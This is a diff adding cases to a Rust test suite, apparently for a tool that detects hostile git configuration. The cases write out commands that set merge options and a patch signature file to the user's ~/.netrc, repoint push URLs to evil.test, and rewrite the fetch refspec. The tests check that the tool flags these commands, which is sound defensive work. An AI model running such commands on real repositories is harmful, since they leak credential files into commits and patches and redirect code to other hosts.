@@ -435,6 +435,30 @@ fn every_way_runs_something_without_a_box() {
     }
 }
 
+/// No entry runs anything, and the user's next merge says what is in a file of the user's: the next session reads it.
+#[test]
+fn configuration_puts_no_file_of_the_users_into_git() {
+    let b = world().file("{home}/.netrc", "secret of the user's");
+    let ran = b.sh(&format!(
+        "{EVIL} b=$(git branch --show-current); git checkout -q -b side; git commit -q --allow-empty -m s; git checkout -q $b; \
+         git commit -q --allow-empty -m m; git config branch.$b.mergeOptions '--no-edit -F {{home}}/.netrc'; \
+         git config format.signatureFile {{home}}/.netrc; git config branch.$b.description mine"
+    ));
+    assert_eq!(ran.code(), 0, "{ran:?}");
+    let told = ran.complaint();
+    assert!(
+        told.contains("branch.*.mergeoptions") && told.contains("format.signaturefile"),
+        "{told}"
+    );
+    let script = "set -e; GIT_EDITOR=true git merge -q side </dev/null; git log --format=%B; git format-patch -1 --stdout side; git config --get-regexp description";
+    let all = host(&b, script).ok();
+    assert!(
+        all.contains("Merge branch 'side'") && all.ends_with("mine"),
+        "{all}"
+    );
+    assert!(!all.contains("secret"), "{all}");
+}
+
 /// No entry runs anything, and the next push goes to somebody else: it is said.
 #[test]
 fn a_remote_that_leads_elsewhere_is_named() {
@@ -444,6 +468,10 @@ fn a_remote_that_leads_elsewhere_is_named() {
         ("git config remote.origin.pushurl https://evil.test/x", true),
         ("git config branch.main.pushRemote evil", true),
         ("git config remote.origin.push +HEAD:refs/heads/main", true),
+        (
+            "git config remote.origin.fetch +refs/pull/1/head:refs/remotes/origin/main",
+            true,
+        ),
         (
             "git remote add fork https://fork.test/x; git config user.name b",
             false,
